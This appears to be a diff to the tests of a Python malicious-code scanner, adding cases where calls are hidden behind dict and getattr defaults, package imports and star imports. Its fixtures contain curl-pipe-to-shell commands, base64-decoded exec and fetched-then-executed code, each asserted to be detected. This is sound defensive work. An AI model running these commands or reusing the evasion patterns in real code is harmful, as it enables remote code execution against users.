@@ -168,6 +168,12 @@ MISSED = {
     "the last with a star": "import os\n*_, f = (print, len, os.system)\nf('curl a|sh')\n",
     "a call in a table": "import os\nx = [(0,), os.system('curl a|sh')" + ", 0" * 100 + "]\n",
     "a call as a key": "import os\nx = {os.system('curl a|sh'): 1, " + "'a': 1, " * 201 + "}\n",
+    "a default of a dict for a number": "import os\n{}.get(0, os.system)('curl a|sh')\n",
+    "a default of a dict for what is not known": "import os\n{}.get(x, os.system)('curl a|sh')\n",
+    "a default of getattr for a name that is not known": "import os\nclass A: pass\ngetattr(A, x, os.system)('curl a|sh')\n",
+    "what comes after a long table": "from decimal import Decimal\nimport os\nx = ["
+    + "(Decimal('1'), f(1)), " * 40_000
+    + "]\nos.system('curl a|sh')\n",
     "a second base": "import os\nclass A: pass\nclass B:\n    def run(self): os.system('curl a|sh')\n"
     "class C(A, B): pass\nC().run()\n",
 }
@@ -189,6 +195,44 @@ def test_each_of_several_modules_of_one_name_is_followed() -> None:
     assert [one.path for one in follow(sources[::-1])] == ["setup.py"]
 
 
+def test_an_import_gets_a_package_before_a_module_of_the_same_name() -> None:
+    package = Source("a/__init__.py", "a", b"from os import system as go\n", is_package=True)
+    plain = [Source("a.py", "a", b"go = print\n"), Source("a.pyw", "a", b"go = print\n")]
+    importer = Source("b.py", "b", b"from a import go\ngo('curl a|sh')\n")
+    for sources in ((package, *plain), (*plain, package)):
+        assert [one.path for one in follow([*sources, importer])] == ["b.py"]
+    windows = Source("a.pyw", "a", b"go = print\n")
+    module = Source("a.py", "a", package.data)
+    assert [one.path for one in follow([module, windows, importer])] == ["b.py"]
+
+
+def test_a_template_that_is_no_python_is_not_named_and_one_that_is_is_followed() -> None:
+    broken = b"import os\nx = {{ name }} {{ other }}\nos.system('a')\n"
+    assert [one.partition(":")[0] for one in followed({"odd/{{ name }}/a.py": broken})] == [
+        "process odd/{{ name }}/a.py"
+    ]
+    assert followed({"odd/{{ name }}/a.py": b"x = (\n", "odd/{% a %}.py": b"x = (\n"}) == []
+    assert [one.partition(":")[0] for one in followed({"odd/{a}/a.py": b"x = (\n"})] == ["unparsed odd/{a}/a.py"]
+    assert [one.partition(":")[0] for one in followed({"{{a}}.py": b"x = '\0'\n"})] == ["unfollowed {{a}}.py"]
+
+
 def test_a_star_imports_the_public_names() -> None:
     files = {"odd/a.py": b"from os import system as go\n", "odd/b.py": b"from .a import *\ngo('curl a|sh')\n"}
     assert [one.split()[:2] for one in followed(files)] == [["command", "odd/b.py:2"]]
+    for added in (b"__all__ = []\n__all__.extend(['go'])\n", b"__all__ = ['x']\n__all__.append('go')\n"):
+        changed = {**files, "odd/a.py": files["odd/a.py"] + added}
+        assert [one.split()[:2] for one in followed(changed)] == [["command", "odd/b.py:2"]]
+
+
+def test_a_star_replaces_no_name_with_one_that_is_not_listed() -> None:
+    own = b"__all__ = []\ndef go(x): pass\ndef exec(x): pass\n"
+    code = b"import base64\nfrom os import system as go\nfrom .a import *\ngo('curl a|sh')\nexec(base64.b64decode(x))\n"
+    found = followed({"odd/a.py": own, "odd/b.py": code})
+    assert {"command odd/b.py:4", "decoded-code odd/b.py:5"} < {" ".join(one.split()[:2]) for one in found}
+
+
+def test_a_loop_over_a_list_that_gets_fetched_data_later_runs_them() -> None:
+    fetch = "from urllib.request import urlopen\n"
+    for filled in ("a = []\na.append(urlopen('http://x').read())\n", "(*a,) = urlopen('http://x')\n"):
+        found = followed({"a.py": f"{fetch}{filled}for b in a:\n    y = exec(b)\n".encode()})
+        assert "fetched-code" in {one.split()[0] for one in found}
